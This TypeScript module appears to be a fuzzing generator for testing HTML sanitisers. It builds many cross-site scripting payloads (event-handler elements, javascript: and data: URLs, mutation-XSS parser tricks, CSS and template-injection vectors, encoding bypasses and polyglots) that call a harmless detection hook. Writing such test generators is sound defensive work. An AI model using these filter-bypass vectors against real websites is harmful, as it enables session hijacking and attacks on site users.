import { type Random, randomOf } from '../random.ts';

/** A text that is meant to run as a script wherever it is not escaped. It then calls `window.__xss` or `alert` with its number. */
export interface Payload {
  n: number;
  /** The way in which it is meant to run. */
  family: string;
  text: string;
}

/** The numbers have five digits, so that they are easily found in a page. */
const firstNumber = 70_001;

/** The scripts that payloads run. They contain no quotes but single ones. */
const statements: ((n: number) => string)[] = [
  (n) => `__xss(${n})`,
  (n) => `alert(${n})`,
  (n) => `window.__xss(${n})`,
  (n) => `self['__x'+'ss'](${n})`,
  (n) => `top['al'+'ert'](${n})`,
  (n) => `(0,eval)('__xss(${n})')`,
  (n) => `Reflect.apply(__xss,0,[${n}])`,
  (n) => `globalThis?.__xss?.(${n})`,
  (n) => `[${n}].map(__xss)`,
  (n) => `setTimeout('__xss(${n})')`,
  (n) => `new Function('__xss(${n})')()`,
];
/** Scripts with no quotes, spaces or `>`, for an attribute value that has no quotes around it. */
const bareStatements: ((n: number) => string)[] = [
  (n) => `__xss(${n})`,
  (n) => `alert(${n})`,
  (n) => `__xss\`${n}\``,
  (n) => `[${n}].find(__xss)`,
];

const entity = (text: string, write: (code: number) => string) =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');
const decimal = (text: string) => entity(text, (code) => `&#${code};`);
const padded = (text: string) => entity(text, (code) => `&#${String(code).padStart(7, '0')}`);
const hexadecimal = (text: string) => entity(text, (code) => `&#x${code.toString(16)};`);
const unicodeEscape = (text: string) => entity(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`);
const percent = (text: string) => entity(text, (code) => `%${code.toString(16).padStart(2, '0')}`);
const base64 = (text: string) => Buffer.from(text).toString('base64');
const forAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** Elements, each with an attribute and an event that occurs by itself, by a pointer or by focus. */
const elements = [
  ['img', 'src=x', 'onerror'],
  ['img', 'srcset=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['input', 'type=image src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['iframe', '', 'onload'],
  ['svg', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['body', '', 'onload'],
  ['details', 'open', 'ontoggle'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocusin'],
  ['button', 'autofocus', 'onfocus'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['marquee', '', 'onstart'],
  ['a', 'href=#', 'onclick'],
  ['p', '', 'onmouseover'],
  ['div', 'contenteditable', 'onbeforeinput'],
  ['x', 'tabindex=1', 'onpointerenter'],
  ['custom-tag', '', 'onauxclick'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
] as const;

const separators = [' ', '/', '\n', '\t', '\f', ' / ', '\r\n'];
const mixCase = (text: string, random: Random) =>
  [...text].map((letter) => (random.isOneIn(2) ? letter.toUpperCase() : letter)).join('');
const statement = (n: number, random: Random) => random.one(statements)(n);
const bare = (n: number, random: Random) => random.one(bareStatements)(n);

/** An element that runs a script when its event occurs, written in one of many ways. */
function element(n: number, random: Random): string {
  const [tag, more, event] = random.one(elements);
  const gap = random.one(separators);
  const written = random.one([
    () => `"${statement(n, random)}"`,
    () => `'${bare(n, random)}'`,
    () => bare(n, random),
    () => `"${decimal(statement(n, random))}"`,
    () => hexadecimal(bare(n, random)),
    () => `"javascript:${statement(n, random)}"`,
  ])();
  const name = random.one([event, mixCase(event, random)]);
  const end = random.one(['>', '>', `></${tag}>`, '//>', ' x=">', '<', '']);
  return `<${random.one([tag, mixCase(tag, random)])}${more && gap}${more}${gap}${name}${random.one(['=', ' = ', '=\t'])}${written}${end}`;
}

/** A short element that is sure to run, for payloads that wrap one. */
const carrier = (n: number, random: Random) =>
  random.one([
    `<img src=x onerror=${bare(n, random)}>`,
    `<svg onload=${bare(n, random)}>`,
    `<script>${statement(n, random)}</script>`,
    `<iframe onload=${bare(n, random)}>`,
    `<details open ontoggle=${bare(n, random)}>`,
  ]);
const picture = (n: number, random: Random) => `<img src=x onerror=${bare(n, random)}>`;

/** An address that is meant to run a script, mostly of the scheme `javascript:` or `data:`. */
function address(n: number, random: Random): string {
  const code = statement(n, random);
  const scheme = random.one([
    'javascript',
    mixCase('javascript', random),
    'java\tscript',
    'java\nscript',
    'j\ra\nv\tascript',
    '\u0001javascript',
    ' \u001fjavascript',
  ]);
  return random.one([
    () => `${scheme}:${code}`,
    () => `${scheme}:${percent(code)}`,
    () => `${scheme}://%0a${code}`,
    () => `${scheme}:/**/${code}`,
    () => `${scheme}:'${picture(n, random)}'`,
    () => `${scheme}:void ${code}//.png`,
    () => `${scheme}:${code};//{model}/{id}`,
    () => `${scheme}:"<script>${code}</script>"`,
    () => `data:text/html,<script>parent.${bareStatements[0]?.(n)}</script>`,
    () => `data:text/html;base64,${base64(`<script>parent.__xss(${n})</script>`)}`,
    () => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss(${n})"/>`,
    () => `data:text/javascript,${code}`,
    () => `data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">parent.__xss(${n})</x:script>`,
    () => `vbscript:${code}`,
    () => `view-source:javascript:${code}`,
    () => `blob:javascript:${code}`,
    () => `//x" onerror="${code}`,
    () => `/upload/x.png" onerror="${code}`,
    () => `/upload/x.png?'onerror='${bare(n, random)}`,
    () => `https://x.invalid/#${random.one(['"', "'", '`'])}onerror=${bare(n, random)}`,
  ])();
}

/** An element that leads to such an address. */
function link(n: number, random: Random): string {
  const url = address(n, random);
  const value = random.one([forAttribute, decimal, padded, hexadecimal])(url);
  return random.one([
    `<a href="${value}">x</a>`,
    `<a href="${value}" target="_blank" download>x</a>`,
    `<iframe src="${value}"></iframe>`,
    `<embed src="${value}">`,
    `<object data="${value}"></object>`,
    `<form action="${value}"><button>x</button></form>`,
    `<form><button formaction="${value}">x</button></form>`,
    `<svg><a xlink:href="${value}"><text>x</text></a></svg>`,
    `<svg><use href="${value}#x"></use></svg>`,
    `<svg><animate attributeName=href values="${value}"></svg>`,
    `<svg><a><set attributeName="href" to="${value}"></set><text>x</text></a></svg>`,
    `<math><mtext href="${value}">x</mtext></math>`,
    `<meta http-equiv="refresh" content="0;url=${value}">`,
    `<base href="${value}//"><a href="x">x</a>`,
    `<link rel="stylesheet" href="${value}">`,
    `<area shape="default" href="${value}">`,
    `<img src="${value}" lowsrc="${value}" dynsrc="${value}">`,
    `<table background="${value}"><td>x</table>`,
    `<video poster="${value}"><source src="${value}"></video>`,
    `<p style="background:url(${value})">x</p>`,
  ]);
}

const rawElements = ['style', 'title', 'textarea', 'noscript', 'xmp', 'noembed', 'noframes', 'iframe', 'script'];
const foreignTexts = ['mtext', 'mi', 'mo', 'mn', 'ms', 'annotation-xml', 'desc', 'foreignObject'];

/**
 * Markup that one parser reads as text and the next one as elements, so that its meaning changes when it is written and
 * read again.
 */
function mutation(n: number, random: Random): string {
  const run = picture(n, random);
  const raw = random.one(rawElements);
  const root = random.one(['svg', 'math']);
  const text = random.one(foreignTexts);
  return random.one([
    `<${root}><${text}><table><mglyph><${raw}><!--</${raw}><img title="--&gt;${forAttribute(run).replaceAll('<', '&lt;')}">`,
    `<${root}></p><${raw}><a id="</${raw}>${run}">`,
    `<${root}><${raw}><!--</${raw}>${run}--></${raw}></${root}>`,
    `<form><${root}><${text}></form><form><mglyph><${raw}></${root}>${run}`,
    `<noscript><p title="</noscript>${run}"></noscript>`,
    `<${root}><p><${raw}><!--</${raw}>${run}`,
    `<${raw}><${root}></${raw}>${run}</${root}>`,
    `<table><td><${root}><${text}><tr><${raw}></table>${run}`,
    `<select><${raw}></select>${run}</${raw}>`,
    `<div><${root}><${text} encoding="text/html"><${raw}>${run}</${raw}>`,
    `<${root}><title><a id="</title>${run}"></a></title></${root}>`,
    `<p><svg><desc><${raw}>${decimal(run)}</${raw}></desc></svg>`,
    `<a id="x${'<b>'.repeat(random.int(2, 6))}"><${raw}>"></${raw}>${run}`,
    `<xmp><p title="</xmp>${run}"></xmp>`,
    `<!--${random.one(['>', '->', '-!>', '--!>'])}${run}-->`,
    `<![CDATA[><${raw}>]]>${run}`,
    `<?xml ><${raw}></${raw}>${run}?>`,
    `</${raw}><${root}><${text}/>${run}`,
  ]);
}

const styleNames = ['animation-name:x', 'transition:all 1ms', 'animation:rotate 1ms', 'content-visibility:auto'];
const styleEvents = ['onanimationstart', 'ontransitionend', 'onanimationend', 'oncontentvisibilityautostatechange'];

function style(n: number, random: Random): string {
  const code = bare(n, random);
  const at = random.int(0, styleNames.length - 1);
  return random.one([
    `<style>@keyframes x{}</style><p style="${styleNames[at]}" ${styleEvents[at]}="${code}">x</p>`,
    `<style onload="${statement(n, random)}">*{color:red}</style>`,
    `<style>*{background:url("javascript:${code}")}</style>`,
    `<p style="width:expression(${code})">x</p>`,
    `<p style="-moz-binding:url(data:text/xml,${code})">x</p>`,
    `<p style='x:"</p>${picture(n, random)}"'>x</p>`,
    `red;background:url(javascript:${code})`,
    `red" onmouseover="${statement(n, random)}`,
    `}</style>${picture(n, random)}`,
    `<style><a title="</style>${picture(n, random)}">`,
    `<p style="--x:</style>${picture(n, random).replaceAll('"', '')}">x</p>`,
    `<svg><style><![CDATA[</style>${picture(n, random)}]]></style></svg>`,
  ]);
}

function frame(n: number, random: Random): string {
  const run = carrier(n, random);
  const inside = random.one([run, run.replace('__xss', 'parent.__xss')]);
  const value = random.one([forAttribute, decimal, padded, hexadecimal])(inside);
  return random.one([
    `<iframe srcdoc="${value}"></iframe>`,
    `<iframe srcdoc='${value.replaceAll("'", '&apos;')}' sandbox="allow-scripts allow-same-origin"></iframe>`,
    `<iframe src="about:blank" srcdoc="${value}" onload="${bare(n, random)}"></iframe>`,
    `<IfRaMe SrCdOc="${value}">`,
    `<frameset onload="${statement(n, random)}"><frame src="x"></frameset>`,
    `<portal src="${forAttribute(address(n, random))}"></portal>`,
    `<fencedframe srcdoc="${value}"></fencedframe>`,
  ]);
}

function template(n: number, random: Random): string {
  const run = carrier(n, random);
  const host = random.one(['div', 'p', 'section', 'article', 'span']);
  return random.one([
    `<${host}><template shadowrootmode="open">${run}</template></${host}>`,
    `<template>${run}</template>`,
    `<template><${host}></template>${run}</${host}>`,
    `<${host} is="x-y"><template shadowroot="open"><slot>${run}</slot></template></${host}>`,
    `<svg><template>${run}</template></svg>`,
    `<math><template>${run}</math>`,
    `<table><template><tr><td>${run}</template></table>`,
    `<select><template>${run}</select>`,
  ]);
}

/** A text that is no markup as it stands, but would be after it was decoded, normalised or shortened once too often. */
function encoded(n: number, random: Random): string {
  const run = carrier(n, random);
  const write = random.one([
    (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text: string) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
    (text: string) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
    (text: string) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    (text: string) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    (text: string) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
    (text: string) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
    (text: string) => text.replaceAll('s', '\u017f').replaceAll('k', '\u212a'),
    (text: string) => text.replaceAll('<', '<\u0000').replaceAll('=', '\u0000='),
    (text: string) => text.replaceAll('<', '\u200b<\ufeff'),
    (text: string) => `\u202e${text}\u202c`,
    (text: string) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
    (text: string) => text.replace(/^<(\w)(\w*)/, '<$1<$1$2>$2'),
    (text: string) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (text: string) => `${'\ud83d'}${text}`,
    percent,
    decimal,
    hexadecimal,
    unicodeEscape,
  ]);
  return write(run);
}

const quotes = ['"', "'", '`', '\\"', "\\'", '&quot;', '&#39;', '\u201d'];

/** Breaks out of the attribute in which it stands. */
function attribute(n: number, random: Random): string {
  const quote = random.one(quotes);
  const event = random.one(['onfocus', 'onmouseover', 'onerror', 'onload', 'onpointerdown', 'oncopy', 'ontoggle']);
  return random.one([
    `x${quote} ${event}=${quote}${bare(n, random)}`,
    `x${quote} autofocus ${event}=${bare(n, random)} x=${quote}`,
    `${quote}>${carrier(n, random)}`,
    `${quote}/>${carrier(n, random)}<x y=${quote}`,
    `x ${event}=${bare(n, random)} `,
    `${quote} style=${quote}animation-name:x${quote} onanimationstart=${bare(n, random)} ${quote}`,
    `${quote} href=${quote}javascript:${statement(n, random)}`,
    `${quote} srcdoc=${quote}${forAttribute(picture(n, random))}`,
  ]);
}

/** Breaks out of a script, a comment, JSON or an element whose content is text. */
function breakout(n: number, random: Random): string {
  const code = bare(n, random);
  const run = carrier(n, random);
  const raw = random.one(rawElements);
  const quote = random.one(["'", '"', '`']);
  return random.one([
    `</${raw}>${run}`,
    `</${raw} x>${run}<${raw}>`,
    `-->${run}<!--`,
    `--!>${run}`,
    `]]>${run}<![CDATA[`,
    `<!--<script>${run}</script>-->`,
    `<!--<script></script>${run}`,
    `${quote};${code};//`,
    `${quote}-${code}-${quote}`,
    `\\${quote};${code};//`,
    `\n${code}//`,
    `\u2028${code}\u2029//`,
    `*/${code}/*`,
    `${quote}}];${code};[{${quote}`,
    `{"__proto__":{"innerHTML":${JSON.stringify(run)}}}`,
    `{"dangerouslySetInnerHTML":{"__html":${JSON.stringify(run)}}}`,
    `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${code}"}}`,
    `"},"x":"${run.replaceAll('"', '')}`,
    `${code}`,
    `;${code};`,
  ]);
}

/** Has placeholders that a template engine would fill in or run. */
function interpolation(n: number, random: Random): string {
  const code = statement(n, random);
  const [open, close] = random.one([
    ['%{', '}'],
    ['{{', '}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%=', '%>'],
    ['{%', '%}'],
    ['[[', ']]'],
    ['*{', '}'],
    ['@(', ')'],
    ['{$', '}'],
  ] as const);
  return random.one([
    `${open}${code}${close}`,
    `${open}constructor.constructor("${code}")()${close}`,
    `${open}__proto__.constructor${close}${carrier(n, random)}`,
    `${open}smart_count${close} |||| ${carrier(n, random)}`,
    `$&${carrier(n, random)}$\`${open}_${close}`,
    `${open}'a'.constructor.prototype.charAt=[].join;$eval("x=${code}")${close}`,
    `<p ng-app>${open}$on.constructor("${code}")()${close}</p>`,
    `<p v-html="'${picture(n, random)}'" x-data="{}" x-init="${code}" @click="${code}">x</p>`,
  ]);
}

/** Is meant to run in several of these places at once. */
function polyglot(n: number, random: Random): string {
  const parts = [
    () => random.one(quotes),
    () => `</${random.one(rawElements)}>`,
    () => random.one(['-->', '*/', ']]>', '}}', '%}', '?>']),
    () => random.one([`javascript:/*`, `/*\`/*`, `//%0d%0a`]),
    () => `${random.one(quotes)} onmouseover=${bare(n, random)} `,
    () => carrier(n, random),
  ];
  const chosen = Array.from({ length: random.int(3, 6) }, () => random.one(parts)());
  return `${chosen.join('')}${picture(n, random)}`;
}

const script = (n: number, random: Random) => {
  const code = statement(n, random);
  const name = random.one(['script', mixCase('script', random)]);
  return random.one([
    `<${name}>${code}</${name}>`,
    `<${name}${random.one(separators)}x>${code}</${name}>`,
    `<${name} src="data:text/javascript,${code}"></${name}>`,
    `<${name} type="module">${code}</${name}>`,
    `<scr<${name}>ipt>${code}</scr</${name}>ipt>`,
    `<svg><${name}>${decimal(code)}</${name}></svg>`,
    `<svg><${name} href="data:text/javascript,${code}"/></svg>`,
    `<math><${name}>${code}</${name}></math>`,
    `<${name}>/*`,
    `<${name} nonce="">${code}</${name}\n>`,
  ]);
};

const families: Record<string, (n: number, random: Random) => string> = {
  element,
  script,
  address,
  link,
  mutation,
  style,
  frame,
  template,
  encoded,
  attribute,
  breakout,
  interpolation,
  polyglot,
};

/** @returns payloads that differ in more than their number, of all families alike, in the order that the seed decides */
export function payloadsOf(random: Random, count: number): Payload[] {
  const names = Object.keys(families);
  const shapes = new Set<string>();
  const payloads: Payload[] = [];
  while (payloads.length < count) {
    const n = firstNumber + payloads.length;
    const family = names[payloads.length % names.length] ?? '';
    const choices = random.int(0, 2 ** 32 - 1);
    const write = (number: number) => families[family]?.(number, randomOf(choices)) ?? '';
    const shape = write(0);
    // A payload that does not contain its number runs nothing of ours.
    if (shape === write(1) || shapes.has(shape)) continue;
    shapes.add(shape);
    payloads.push({ n, family, text: write(n) });
  }
  return payloads;
}
